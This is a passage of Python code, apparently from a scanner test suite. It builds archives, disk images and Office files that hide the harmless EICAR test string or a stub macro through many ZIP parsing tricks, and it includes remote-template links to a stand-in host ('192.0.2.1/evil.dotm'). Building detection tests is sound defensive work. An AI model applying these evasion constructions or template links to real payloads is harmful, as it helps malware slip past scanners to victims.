"""Archives, documents and pages that tell one reader this and another one that.

containers() gives files that hold a payload; they combine with any encoding.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import NamedTuple

import documents
import wrappings
from eicar import EICAR
from variants import PROGRAM, PROGRAM_MARK, ZIP, Variant, attached, base64_lines, encoded_part, mail, single

MACRO_MARK = b"MARKER-OF-A-MACRO-9d3e"
JS_MARK = b"MARKER-OF-A-PDF-77f0"
ADDRESS = b"192.0.2.1/evil.dotm"
MACRO = b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n\' ' + MACRO_MARK + b"\r\nEnd Sub\r\n"
NAME = b"eicar.com"


class Container(NamedTuple):
    name: str
    data: bytes
    file: str
    marker: bytes = EICAR
    media_type: str = "application/octet-stream"
    text: bytes = b""  # of the mail's first part
    special: str | None = None


# -- zip, by hand


def deflated(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


class Entry(NamedTuple):
    """One member, and what its two headers say of it; None: the truth."""

    name: bytes = NAME
    data: bytes = EICAR
    method: int = 8
    local_method: int | None = None
    central_method: int | None = None
    local_flags: int = 0
    central_flags: int = 0
    sizes: tuple[int, int] | None = None  # packed, unpacked: in both headers
    local_sizes: tuple[int, int] | None = None
    central_sizes: tuple[int, int] | None = None
    crc: int | None = None
    local_name: bytes | None = None
    offset: int | None = None
    descriptor: bytes = b""
    packed: bytes | None = None
    hidden: bool = False  # not in the directory
    extra: bytes = b""


def zip_file(
    *entries: Entry, prefix: bytes = b"", comment: bytes = b"", directory: bool = True, shift: int = 0, count: int | None = None
) -> bytes:
    body = prefix
    central = b""
    for entry in entries:
        packed = entry.packed if entry.packed is not None else deflated(entry.data) if entry.method == 8 else entry.data
        crc = zlib.crc32(entry.data) if entry.crc is None else entry.crc
        sizes = entry.sizes or (len(packed), len(entry.data))

        def header(
            method: int | None, flags: int, own: tuple[int, int] | None, e: Entry = entry, c: int = crc, s: tuple[int, int] = sizes
        ) -> bytes:
            return struct.pack("<HHHHHIII", 20, flags, e.method if method is None else method, 0, 0x5876, c, *(own or s))

        offset = len(body) - shift if entry.offset is None else entry.offset
        local_name = entry.name if entry.local_name is None else entry.local_name
        local = header(entry.local_method, entry.local_flags, entry.local_sizes)
        body += (
            b"PK\3\4" + local + struct.pack("<HH", len(local_name), len(entry.extra)) + local_name + entry.extra + packed + entry.descriptor
        )
        if not entry.hidden:
            there = header(entry.central_method, entry.central_flags, entry.central_sizes)
            central += (
                b"PK\1\2" + struct.pack("<H", 20) + there + struct.pack("<HHHHHII", len(entry.name), 0, 0, 0, 0, 0, offset) + entry.name
            )
    if not directory:
        return body
    total = sum(not entry.hidden for entry in entries) if count is None else count
    return body + central + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, total, total, len(central), len(body) - shift, len(comment)) + comment


GOOD = Entry(b"readme.txt", b"nothing here")


def zips() -> Iterator[Container]:
    def of(name: str, data: bytes, **more: object) -> Container:
        return Container("zip-" + name, data, "a.zip", media_type="application/zip", **more)  # type: ignore[arg-type]

    plain = zip_file(Entry())
    good = zip_file(GOOD)
    end = plain[plain.index(b"PK\5\6") :]
    for name, method in (
        ("stored", zipfile.ZIP_STORED),
        ("deflated", zipfile.ZIP_DEFLATED),
        ("bzip2", zipfile.ZIP_BZIP2),
        ("lzma", zipfile.ZIP_LZMA),
    ):
        yield of(name, wrappings.zipped(EICAR, "a.com", method))
    for depth in (2, 7, 20, 27, 31, 35):
        data = EICAR
        for _ in range(depth):
            data = zip_file(Entry(b"n.zip", data))
        yield of(f"nested-{depth}", data)
    dd = struct.pack("<4sIII", b"PK\7\10", zlib.crc32(EICAR), len(deflated(EICAR)), len(EICAR))
    for name, data in (
        ("zombie", zip_file(Entry(local_method=0, central_method=0))),
        ("zombie-sizes", zip_file(Entry(local_method=0, central_method=0, sizes=(len(deflated(EICAR)),) * 2))),
        ("local-stored", zip_file(Entry(local_method=0))),
        ("central-stored", zip_file(Entry(central_method=0))),
        ("stored-says-deflated", zip_file(Entry(method=0, local_method=8, central_method=8))),
        ("stored-says-deflated-local", zip_file(Entry(method=0, local_method=8))),
        ("stored-says-deflated-central", zip_file(Entry(method=0, central_method=8))),
        ("method-99", zip_file(Entry(local_method=99, central_method=99))),
        ("method-unknown", zip_file(Entry(local_method=77, central_method=77))),
        ("method-unknown-local", zip_file(Entry(local_method=77))),
        ("method-unknown-central", zip_file(Entry(central_method=77))),
        ("method-1-stored", zip_file(Entry(method=0, local_method=1, central_method=1))),
        ("crc", zip_file(Entry(crc=0))),
        ("crc-stored", zip_file(Entry(method=0, crc=1))),
        ("encrypted-flag", zip_file(Entry(local_flags=1, central_flags=1))),
        ("encrypted-flag-local", zip_file(Entry(local_flags=1))),
        ("encrypted-flag-central", zip_file(Entry(central_flags=1))),
        ("encrypted-flag-stored", zip_file(Entry(method=0, local_flags=1, central_flags=1))),
        ("strong-encryption-flag", zip_file(Entry(local_flags=0x41, central_flags=0x41))),
        ("masked-flag", zip_file(Entry(local_flags=0x2000, central_flags=0x2000))),
        ("patch-flag", zip_file(Entry(local_flags=0x20, central_flags=0x20))),
        ("unpacked-size-1", zip_file(Entry(sizes=(len(deflated(EICAR)), 1)))),
        ("unpacked-size-0", zip_file(Entry(sizes=(len(deflated(EICAR)), 0)))),
        ("unpacked-size-huge", zip_file(Entry(sizes=(len(deflated(EICAR)), 0xFFFFFFF0)))),
        ("packed-size-1", zip_file(Entry(sizes=(1, 68)))),
        ("packed-size-0", zip_file(Entry(sizes=(0, 68)))),
        ("packed-size-huge", zip_file(Entry(sizes=(0x7FFFFFFF, 68)))),
        ("packed-size-local-0", zip_file(Entry(local_sizes=(0, 0)))),
        ("packed-size-central-0", zip_file(Entry(central_sizes=(0, 0)))),
        ("packed-size-central-1", zip_file(Entry(central_sizes=(1, 1)))),
        ("stored-size-1", zip_file(Entry(method=0, sizes=(1, 1)))),
        ("stored-size-0", zip_file(Entry(method=0, sizes=(0, 0)))),
        ("stored-size-local-0", zip_file(Entry(method=0, local_sizes=(0, 0)))),
        ("stored-size-central-0", zip_file(Entry(method=0, central_sizes=(0, 0)))),
        ("descriptor", zip_file(Entry(local_flags=8, central_flags=8, local_sizes=(0, 0), descriptor=dd))),
        ("descriptor-no-signature", zip_file(Entry(local_flags=8, central_flags=8, local_sizes=(0, 0), descriptor=dd[4:]))),
        ("descriptor-no-directory", zip_file(Entry(local_flags=8, local_sizes=(0, 0), descriptor=dd), directory=False)),
        ("descriptor-stored", zip_file(Entry(method=0, local_flags=8, central_flags=8, local_sizes=(0, 0), descriptor=dd))),
        ("descriptor-stored-no-directory", zip_file(Entry(method=0, local_flags=8, local_sizes=(0, 0), descriptor=dd), directory=False)),
        ("no-directory", zip_file(Entry(), directory=False)),
        ("no-directory-second", zip_file(GOOD, Entry(), directory=False)),
        ("cut-in-data", zip_file(Entry(data=EICAR + b"x" * 10, method=0), directory=False)[:-10]),
        ("cut-in-directory", plain[:-30]),
        ("cut-in-end", plain[:-5]),
        ("no-end", plain[: -len(end)]),
        ("hidden-first", zip_file(Entry(hidden=True), GOOD)),
        ("hidden-last", zip_file(GOOD, Entry(hidden=True))),
        ("hidden-stored", zip_file(GOOD, Entry(method=0, hidden=True))),
        ("all-hidden", zip_file(Entry(hidden=True))),
        ("same-name-first", zip_file(Entry(b"a.txt"), Entry(b"a.txt", b"good"))),
        ("same-name-last", zip_file(Entry(b"a.txt", b"good"), Entry(b"a.txt"))),
        ("same-name-case", zip_file(Entry(b"a.txt", b"good"), Entry(b"A.TXT"))),
        ("names-differ", zip_file(Entry(local_name=b"a.txt"))),
        ("empty-name", zip_file(Entry(name=b""))),
        ("folder-name", zip_file(Entry(name=b"folder/"))),
        ("folder-name-stored", zip_file(Entry(name=b"folder/", method=0))),
        ("backslash-name", zip_file(Entry(name=b"folder\\"))),
        ("nul-name", zip_file(Entry(name=b"a\0b"))),
        ("wrong-offset", zip_file(GOOD, Entry(offset=0))),
        ("offset-in-other", zip_file(Entry(), GOOD._replace(offset=0))),
        ("offset-outside", zip_file(Entry(offset=0x7FFFFFFF))),
        ("shifted", zip_file(Entry(), prefix=b"x" * 100, shift=100)),
        ("count-0", zip_file(Entry(), count=0)),
        ("count-1-of-2", zip_file(GOOD, Entry(), count=1)),
        ("count-huge", zip_file(Entry(), count=0xFFFF)),
        ("prefix", zip_file(Entry(), prefix=b"junk" * 50)),
        ("prefix-1", zip_file(Entry(), prefix=b"\0")),
        ("prefix-70000", zip_file(Entry(), prefix=b"junk" * 17_500)),
        ("prefix-300000", zip_file(Entry(), prefix=b"junk" * 75_000)),
        ("prefix-300000-stored", zip_file(Entry(method=0), prefix=b"junk" * 75_000)),
        ("suffix", plain + b"junk" * 50),
        ("suffix-70000", plain + b"junk" * 17_500),
        ("suffix-300000", plain + b"junk" * 75_000),
        ("comment", zip_file(Entry(), comment=b"hello")),
        ("comment-with-end", zip_file(Entry(), comment=end)),
        ("comment-with-zip", zip_file(GOOD, comment=plain)),
        ("comment-65535", zip_file(Entry(), comment=b"x" * 65535)),
        ("fake-end", plain + b"PK\5\6" + bytes(18)),
        ("fake-end-good", plain + good[good.index(b"PK\1\2") :]),
        ("fake-end-in-front", b"PK\5\6" + bytes(18) + plain),
        ("two-ends", plain + end),
        ("concatenated-bad-last", good + plain),
        ("concatenated-bad-first", plain + good),
        ("concatenated-three", good + plain + good),
        ("concatenated-junk", good + b"junk" * 1000 + plain),
        ("concatenated-junk-bad-first", plain + b"junk" * 1000 + good),
        ("concatenated-adjusted", zip_file(GOOD, prefix=plain)),
        ("between-members", zip_file(GOOD, Entry(method=0, hidden=True), GOOD._replace(name=b"b.txt"))),
        ("inside-stored", zip_file(Entry(b"a.txt", plain, method=0))),
        ("inside-stored-no-extension", zip_file(Entry(b"a", plain, method=0))),
        ("in-extra", zip_file(GOOD._replace(extra=struct.pack("<HH", 0xCAFE, 68) + EICAR))),
        ("in-comment", zip_file(GOOD, comment=EICAR)),
        ("in-gap", zip_file(GOOD, prefix=EICAR)),
        ("spanned-marker", b"PK00" + plain),
        ("split-marker", b"PK\7\10" + plain),
        ("version-255", plain.replace(b"PK\3\4\x14", b"PK\3\4\xff").replace(b"\x14\0\x14\0", b"\xff\0\xff\0")),
        ("deflate-two-blocks", zip_file(Entry(packed=_blocks(EICAR)))),
        ("deflate-stored-block", zip_file(Entry(packed=b"\1" + struct.pack("<HH", 68, 68 ^ 0xFFFF) + EICAR))),
        ("deflate-trailing", zip_file(Entry(packed=deflated(EICAR) + b"junk" * 20))),
        ("deflate-two-streams", zip_file(Entry(packed=deflated(b"good") + deflated(EICAR)))),
        ("deflate-no-end", zip_file(Entry(packed=_unfinished(EICAR)))),
        ("zlib-inside", zip_file(Entry(packed=zlib.compress(EICAR)))),
        ("deflate64", zip_file(Entry(local_method=9, central_method=9))),
        ("gif", b"GIF89a\1\0\1\0\0\0\0;" + plain),
        ("png", b"\x89PNG\r\n\x1a\n" + bytes(50) + plain),
        ("jpeg", b"\xff\xd8\xff\xe0" + bytes(50) + plain),
        ("pdf", b"%PDF-1.4\n%%EOF\n" + plain),
        ("html", b"<html></html>" + plain),
        ("rtf", b"{\\rtf1 hello}" + plain),
        ("rar-signature", b"Rar!\x1a\x07\0" + plain),
        ("bmp", b"BM" + bytes(50) + plain),
        ("program", PROGRAM.replace(PROGRAM_MARK, b"") + plain),
        ("text", b"Hello, this is a text.\r\n" * 20 + plain),
        ("script", b"#!/bin/sh\nexit\n" + plain),
        ("ole", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512) + plain),
        ("tar", wrappings.tarred(b"good") + plain),
        ("gzip-behind", gzip.compress(b"good") + plain),
        ("gzip-good-behind", plain + gzip.compress(b"good")),
        ("cab", wrappings.cab(b"good") + plain),
    ):
        yield of(name, data)
    many = tuple(Entry(b"f%d.txt" % n, b"x") for n in range(3000))
    yield of("many-last", zip_file(*many, Entry()))
    yield of("many-first", zip_file(Entry(), *many))
    yield of("12000-members", zip_file(*many, *many, *many, *many, Entry()))
    zeros = Entry(b"zero.bin", bytes(40_000_000))
    yield of("zeros-then-payload", zip_file(zeros, Entry()))
    yield of("zeros-in-payload", zip_file(Entry(data=bytes(20_000_000) + EICAR)))
    yield of("zeros-behind-payload", zip_file(Entry(data=EICAR + bytes(40_000_000))))
    yield of("overlapping", _overlapping())
    yield of("quine", _self_reference())
    for name, text in (
        ("plain", b"The password is s3cret"),
        ("colon", b"password:s3cret"),
        ("quoted", b'Use "s3cret" to open it'),
        ("sentence", b"You can open the file with s3cret."),
        ("last-line", b"Hi\r\n\r\n" + b"word " * 40 + b"\r\ns3cret"),
        ("german", b"Kennwort: s3cret"),
        ("brackets", b"Password (s3cret)"),
        ("equals", b"pw=s3cret"),
        ("html", b"Your password is <b>s3cret</b>"),
        ("unrelated", b"Regards s3cret"),
        ("comma", b"open with s3cret, please"),
        ("glued", b"passwords3cret s3cret"),
        ("late", b"word " * 200 + b"s3cret"),
    ):
        yield of("password-" + name, wrappings.zipcrypto(EICAR, b"s3cret"), text=text, special="password:s3cret")


def _blocks(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data[:30]) + packer.flush(zlib.Z_FULL_FLUSH) + packer.compress(data[30:]) + packer.flush()


def _unfinished(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush(zlib.Z_SYNC_FLUSH)


def _overlapping() -> bytes:
    """Many entries that share one member."""
    first = zip_file(Entry(), directory=False)
    entries = b"".join(zip_file(Entry(b"f%d" % n, offset=0))[len(first) - 9 + len(b"f%d" % n) : -22] for n in range(50))
    return first + entries + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 50, 50, len(entries), len(first), 0)


def _self_reference() -> bytes:
    """A member that is stored and contains the payload's member."""
    inner = zip_file(Entry(method=0), directory=False)
    return zip_file(Entry(b"outer.txt", inner, method=0))


# -- other archives


def archives() -> Iterator[Container]:
    packed = gzip.compress(EICAR)
    tar = wrappings.tarred(EICAR, "eicar.com")
    for name, data, file in (
        ("gzip", packed, "a.txt.gz"),
        ("gzip-two-members", gzip.compress(b"good") + packed, "a.txt.gz"),
        ("gzip-two-members-bad-first", packed + gzip.compress(b"good"), "a.txt.gz"),
        ("gzip-empty-first", gzip.compress(b"") + packed, "a.txt.gz"),
        ("gzip-cut", packed[:-8], "a.txt.gz"),
        ("gzip-cut-more", packed[:-12], "a.txt.gz"),
        ("gzip-crc", packed[:-8] + bytes(8), "a.txt.gz"),
        ("gzip-junk", packed + b"junk" * 20, "a.txt.gz"),
        ("gzip-zeros", packed + bytes(512), "a.txt.gz"),
        ("gzip-zeros-member", gzip.compress(b"good") + bytes(512) + packed, "a.txt.gz"),
        ("gzip-prefix", b"junk" * 20 + packed, "a.dat"),
        ("gzip-prefix-text", b"Hello there\r\n" + packed, "a.txt"),
        ("gzip-name", b"\x1f\x8b\x08\x08" + packed[4:10] + b"eicar.com\0" + packed[10:], "a.gz"),
        ("gzip-extra", b"\x1f\x8b\x08\x04" + packed[4:10] + b"\4\0abcd" + packed[10:], "a.gz"),
        ("gzip-comment-crc", b"\x1f\x8b\x08\x12" + packed[4:10] + b"hi\0\0\0" + packed[10:], "a.gz"),
        ("gzip-reserved-flags", b"\x1f\x8b\x08\xe0" + packed[4:], "a.gz"),
        ("gzip-twice", gzip.compress(packed), "a.gz.gz"),
        ("gzip-ten", _times(EICAR, gzip.compress, 10), "a.gz"),
        ("gzip-image", packed, "a.png"),
        ("gzip-no-name", packed, "a"),
        ("zlib", zlib.compress(EICAR), "a.z"),
        ("bzip2", bz2.compress(EICAR), "a.bz2"),
        ("bzip2-two", bz2.compress(b"good") + bz2.compress(EICAR), "a.bz2"),
        ("bzip2-cut", bz2.compress(EICAR)[:-4], "a.bz2"),
        ("bzip2-junk", bz2.compress(EICAR) + b"junk", "a.bz2"),
        ("bzip2-prefix", b"junk\r\n" + bz2.compress(EICAR), "a.bz2"),
        ("xz", lzma.compress(EICAR), "a.xz"),
        ("xz-two", lzma.compress(b"good") + lzma.compress(EICAR), "a.xz"),
        ("xz-cut", lzma.compress(EICAR)[:-20], "a.xz"),
        ("xz-no-check", lzma.compress(EICAR, check=lzma.CHECK_NONE), "a.xz"),
        ("lzma", lzma.compress(EICAR, lzma.FORMAT_ALONE), "a.lzma"),
        ("lzma-as-dat", lzma.compress(EICAR, lzma.FORMAT_ALONE), "a.dat"),
        ("tar", tar, "a.tar"),
        ("tar-as-dat", tar, "a.dat"),
        ("tar-no-end", tar[:1024], "a.tar"),
        ("tar-cut", tar[:590], "a.tar"),
        ("tar-prefix", bytes(512) + tar, "a.tar"),
        ("tar-two", wrappings.tarred(b"good") + tar, "a.tar"),
        ("tar-no-magic", _tar_without_magic(tar), "a.tar"),
        ("tar-bad-checksum", tar[:148] + b"0000000\0" + tar[156:], "a.tar"),
        ("tar-old-file-type", _tar_typed(tar, b"\0"), "a.tar"),
        ("tar-contiguous", _tar_typed(tar, b"7"), "a.tar"),
        ("tar-unknown-type", _tar_typed(tar, b"Z"), "a.tar"),
        ("tar-link-type", _tar_typed(tar, b"1"), "a.tar"),
        ("tar-folder-type", _tar_typed(tar, b"5"), "a.tar"),
        ("tgz", gzip.compress(tar), "a.tgz"),
        ("tgz-cut", gzip.compress(tar)[:-8], "a.tgz"),
        ("tbz", bz2.compress(tar), "a.tbz"),
        ("txz", lzma.compress(tar), "a.txz"),
        ("tar-in-tar", wrappings.tarred(tar, "b.tar"), "a.tar"),
        ("zip-in-tar", wrappings.tarred(ZIP, "b.zip"), "a.tar"),
        ("tar-in-zip", wrappings.zipped(tar, "b.tar"), "a.zip"),
        ("tgz-in-zip", wrappings.zipped(gzip.compress(tar), "b.tgz"), "a.zip"),
        ("zip-in-gzip", gzip.compress(ZIP), "a.zip.gz"),
        ("cab", wrappings.cab(EICAR, NAME), "a.cab"),
        ("cab-as-dat", wrappings.cab(EICAR, NAME), "a.dat"),
        ("cab-prefix", b"junk" * 20 + wrappings.cab(EICAR, NAME), "a.cab"),
        ("cab-two", wrappings.cab(b"good") + wrappings.cab(EICAR, NAME), "a.cab"),
        ("cab-cut", wrappings.cab(EICAR + b"x" * 20, NAME)[:-10], "a.cab"),
        ("lha", wrappings.lha(EICAR, NAME), "a.lzh"),
        ("rar", wrappings.rar(EICAR, NAME), "a.rar"),
        ("rar-prefix", b"junk" * 20 + wrappings.rar(EICAR, NAME), "a.dat"),
        ("rar-two", wrappings.rar(b"good") + wrappings.rar(EICAR, NAME), "a.rar"),
        ("rar-as-image", wrappings.rar(EICAR, NAME), "a.png"),
    ):
        yield Container(name, data, file)
    try:
        formats = [
            (form, wrappings.libarchive_written(EICAR, form))
            for form in ("7zip", "iso9660", "cpio_newc", "cpio", "ar_bsd", "ar_svr4", "xar", "gnutar", "pax", "shar", "mtree")
        ]
    except (ImportError, OSError):
        formats = []
    for form, data in formats:
        yield Container("written-" + form, data, "a.dat")
        yield Container("written-" + form + "-in-zip", wrappings.zipped(data, "b.dat"), "a.zip")
        if form == "iso9660":
            for extension in ("iso", "img", "dat", "bin", "txt"):
                yield Container(f"image-{extension}", data, "a." + extension)
            yield Container("image-vhd", data + b"conectix" + bytes(504), "a.vhd")
            yield Container("image-no-end", data[:-2048] if EICAR in data[:-2048] else data, "a.img")
    yield Container("fat-image", _fat(EICAR), "a.img")
    yield Container("vhd-fat", _fat(EICAR) + b"conectix" + bytes(504), "a.vhd")
    yield Container("fat-image-zip", _fat(ZIP), "a.img")


def _times(data: bytes, wrap: object, count: int) -> bytes:
    for _ in range(count):
        data = wrap(data)  # type: ignore[operator]
    return data


def _resum(block: bytes) -> bytes:
    total = sum(block[:148]) + sum(block[156:512]) + 8 * 32
    return block[:148] + b"%06o\0 " % total + block[156:]


def _tar_without_magic(tar: bytes) -> bytes:
    return _resum(tar[:257] + bytes(8) + tar[265:])


def _tar_typed(tar: bytes, kind: bytes) -> bytes:
    return _resum(tar[:156] + kind + tar[157:])


def _fat(data: bytes) -> bytes:
    """A FAT12 floppy image with one file."""
    boot = bytearray(512)
    boot[:3] = b"\xeb\x3c\x90"
    boot[3:11] = b"MSDOS5.0"
    boot[11:36] = struct.pack("<HBHBHHBHHHII", 512, 1, 1, 2, 224, 2880, 0xF0, 9, 18, 2, 0, 0)
    boot[38] = 0x29
    boot[54:62] = b"FAT12   "
    boot[510:] = b"\x55\xaa"
    table = (b"\xf0\xff\xff\xff\x0f" + bytes(512 * 9))[: 512 * 9]
    entry = b"EICAR   COM\x20" + bytes(14) + struct.pack("<HI", 2, len(data))
    root = entry.ljust(224 * 32, b"\0")
    return (bytes(boot) + table * 2 + root + data.ljust(512, b"\0")).ljust(1440 * 1024, b"\0")


# -- documents


def tnef(data: bytes, *, checksums: bool = True, name: bytes = NAME, before: bytes = b"", long_name: str = "") -> bytes:
    def attribute(level: int, number: int, value: bytes) -> bytes:
        total = sum(value) & 0xFFFF if checksums else 0x1234
        return struct.pack("<BII", level, number, len(value)) + value + struct.pack("<H", total)

    out = before + struct.pack("<IH", 0x223E9F78, 1) + attribute(1, 0x00089006, struct.pack("<I", 0x10000))
    out += attribute(2, 0x00069002, b"\1\0" + b"\xff" * 4 + bytes(8)) + attribute(2, 0x00018010, name + b"\0")
    if long_name:
        wide = long_name.encode("utf-16-le") + b"\0\0"
        value = struct.pack("<IHHII", 1, 0x1F, 0x3707, 1, len(wide)) + wide.ljust(-(-len(wide) // 4) * 4, b"\0")
        out += attribute(2, 0x00069005, value)
    return out + attribute(2, 0x0006800F, data)


def tnef_property(data: bytes) -> bytes:
    """The file as an object property of the attachment instead of its data attribute."""
    value = struct.pack("<IHHII", 1, 0x102, 0x3701, 1, len(data)) + data.ljust(-(-len(data) // 4) * 4, b"\0")
    return documents.tnef_file(
        documents.tnef_attribute(2, 0x69002, b"\1\0" + b"\xff" * 4 + bytes(8)), documents.tnef_attribute(2, 0x69005, value)
    )


CONTENT = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">%b</Types>'
OVERRIDE = b'<Override PartName="%b" ContentType="application/vnd.%b"/>'
RELATIONS = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%b</Relationships>'
RELATION = b'<Relationship Id="r1" Type="http://schemas.%b" Target="%b"%b/>'


def office(main: str, parts: dict[str, bytes], related: bytes = b"", extra: bytes = b"") -> bytes:
    """An Office file: `main` is the main part, "word/document.xml"."""
    folder, file = main.split("/")
    kind = {
        "word": b"ms-word.document.macroEnabled.main+xml",
        "xl": b"ms-excel.sheet.macroEnabled.main+xml",
        "ppt": b"ms-powerpoint.presentation.macroEnabled.main+xml",
    }[folder]
    rels = RELATION % (b"openxmlformats.org/officeDocument/2006/relationships/officeDocument", main.encode(), b"")
    files = {
        "[Content_Types].xml": CONTENT % (OVERRIDE % (b"/" + main.encode(), kind) + extra),
        "_rels/.rels": RELATIONS % rels,
        main: b'<?xml version="1.0"?><document/>',
        f"{folder}/_rels/{file}.rels": RELATIONS % related,
        **parts,
    }
    return documents.zip_file(files)


def macro_project(text: bytes = MACRO, *, plain: bool = False) -> bytes:
    if plain:
        return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + text
    return documents.compound_file(documents.vba_project({"ThisDocument": text}))


def office_files() -> Iterator[Container]:
    def of(name: str, data: bytes, file: str, marker: bytes = MACRO_MARK) -> Container:
        return Container("office-" + name, data, file, marker)

    vba = RELATION % (b"microsoft.com/office/2006/relationships/vbaProject", b"vbaProject.bin", b"")
    odd = RELATION % (b"microsoft.com/office/2006/relationships/vbaProject", b"printerSettings1.bin", b"")
    for label, plain in (("", False), ("-plain", True)):
        project = macro_project(plain=plain)
        for folder, main, extension in (
            ("word", "word/document.xml", "doc"),
            ("xl", "xl/workbook.xml", "xls"),
            ("ppt", "ppt/presentation.xml", "ppt"),
        ):
            text = {"word": MACRO, "xl": MACRO.replace(b"AutoOpen", b"Workbook_Open"), "ppt": MACRO.replace(b"AutoOpen", b"Auto_Open")}[
                folder
            ]
            own = macro_project(text, plain=plain)
            made = office(main, {f"{folder}/vbaProject.bin": own}, vba)
            yield of(f"{extension}m{label}", made, f"report.{extension}m")
            yield of(f"{extension}x-name{label}", made, f"report.{extension}x")
            yield of(f"{extension}m-as-dat{label}", made, "report.dat")
            yield of(f"{extension}m-as-old{label}", made, f"report.{extension}")
            yield of(f"{extension}m-prefixed{label}", b"junk" * 25 + made, f"report.{extension}m")
            yield of(f"{extension}m-suffixed{label}", made + b"junk" * 25, f"report.{extension}m")
            yield of(f"{extension}m-in-zip{label}", wrappings.zipped(made, f"report.{extension}m"), "a.zip")
            renamed = office(main, {f"{folder}/printerSettings1.bin": own}, odd)
            yield of(f"{extension}m-renamed{label}", renamed, f"report.{extension}m")
            yield of(f"{extension}x-renamed{label}", renamed, f"report.{extension}x")
            yield of(f"{extension}m-no-relation{label}", office(main, {f"{folder}/vbaProject.bin": own}), f"report.{extension}m")
            yield of(
                f"{extension}m-elsewhere{label}",
                office(main, {"custom/data.bin": own}, vba.replace(b"vbaProject.bin", b"/custom/data.bin")),
                f"report.{extension}m",
            )
            yield of(f"{extension}m-upper{label}", office(main, {f"{folder}/VBAPROJECT.BIN": own}, vba), f"report.{extension}m")
            yield of(
                f"{extension}m-no-types{label}",
                documents.zip_file({main: b"<x/>", f"{folder}/vbaProject.bin": own}),
                f"report.{extension}m",
            )
        yield of(f"project-alone{label}", project, "vbaProject.bin")
        yield of(
            f"mht{label}",
            b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: application/x-mso\r\nContent-Location: editdata.mso\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + base64_lines(active_mime(project))
            + b"--x--\r\n",
            "report.doc",
        )
        flat = (
            b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" w:macrosPresent="yes"><w:docSuppData><w:binData w:name="editdata.mso">'
            + base64_lines(active_mime(project))
            + b"</w:binData></w:docSuppData></w:wordDocument>"
        )
        yield of(f"flat-xml{label}", flat, "report.doc")
        yield of(f"flat-xml-xml{label}", flat, "report.xml")
    old = documents.compound_file({"WordDocument": bytes(600), **documents.vba_project({"ThisDocument": MACRO}, "Macros/")})
    yield of("doc", old, "report.doc")
    yield of("doc-as-rtf", old, "report.rtf")
    yield of(
        "xls",
        documents.compound_file(
            {
                "Workbook": bytes(600),
                **documents.vba_project({"ThisWorkbook": MACRO.replace(b"AutoOpen", b"Workbook_Open")}, "_VBA_PROJECT_CUR/"),
            }
        ),
        "report.xls",
    )
    template = RELATION % (
        b"openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
        b"http://" + ADDRESS,
        b' TargetMode="External"',
    )
    for name, relation in (
        ("", template),
        ("-single-quotes", template.replace(b'"', b"'")),
        (
            "-order",
            template.replace(b'Id="r1" ', b"")
            .replace(b"<Relationship ", b'<Relationship TargetMode="External" ')
            .replace(b' TargetMode="External"/>', b' Id="r1"/>'),
        ),
        ("-entity", template.replace(b"http:", b"http&#58;")),
        ("-blanks", template.replace(b"=", b" = ")),
        ("-line-ends", template.replace(b" ", b"\r\n")),
        (
            "-prefix",
            template.replace(b"<Relationship ", b"<r:Relationship xmlns:r='http://schemas.openxmlformats.org/package/2006/relationships' "),
        ),
        ("-https", template.replace(b"http://192", b"https://192")),
        ("-unc", template.replace(b"http://" + ADDRESS, b"\\\\" + ADDRESS)),
        ("-file", template.replace(b"http://192", b"file://192")),
        ("-strict", template.replace(b"schemas.openxmlformats.org/officeDocument/2006", b"purl.oclc.org/ooxml/officeDocument")),
    ):
        for file in ("report.docx", "report.dotx", "report.dat"):
            if file != "report.docx" and name:
                continue
            parts = {"word/settings.xml": b"<settings/>", "word/_rels/settings.xml.rels": RELATIONS % relation}
            yield of(f"template{name}-{file[-4:]}", office("word/document.xml", parts), file, ADDRESS)
    parts = {"word/settings.xml": b"<settings/>", "word/_rels/settings.xml.rels": (RELATIONS % template).decode().encode("utf-16")}
    yield of(
        "template-utf-16", office("word/document.xml", parts), "report.docx", b"\0".join(ADDRESS[i : i + 1] for i in range(len(ADDRESS)))
    )
    for name, relation in (("ole", b"oleObject"), ("frame", b"frame")):
        related = RELATION % (
            b"openxmlformats.org/officeDocument/2006/relationships/" + relation,
            b"http://" + ADDRESS,
            b' TargetMode="External"',
        )
        yield of(f"external-{name}", office("word/document.xml", {}, related), "report.docx", ADDRESS)
    package = documents.compound_file({"\1Ole10Native": struct.pack("<I", 200) + documents.ole_package(NAME, EICAR)})
    for label, inside in (
        ("package", package),
        ("raw", EICAR),
        ("zip", ZIP),
        ("contents", documents.compound_file({"CONTENTS": EICAR})),
        ("ole1", documents.ole1_object(b"Package", documents.ole_package(NAME, EICAR))),
    ):
        yield of(f"xlsx-{label}", office("xl/workbook.xml", {"xl/embeddings/oleObject1.bin": inside}), "report.xlsx", EICAR)
        yield of(f"docx-{label}", office("word/document.xml", {"word/embeddings/oleObject1.bin": inside}), "report.docx", EICAR)
        yield of(f"docx-media-{label}", office("word/document.xml", {"word/media/image1.png": inside}), "report.docx", EICAR)
    yield of(
        "doc-package",
        documents.compound_file(
            {"WordDocument": bytes(600), "ObjectPool/_1/\1Ole10Native": struct.pack("<I", 200) + documents.ole_package(NAME, EICAR)}
        ),
        "report.doc",
        EICAR,
    )
    yield of(
        "msg",
        documents.compound_file(
            {
                "__properties_version1.0": bytes(32),
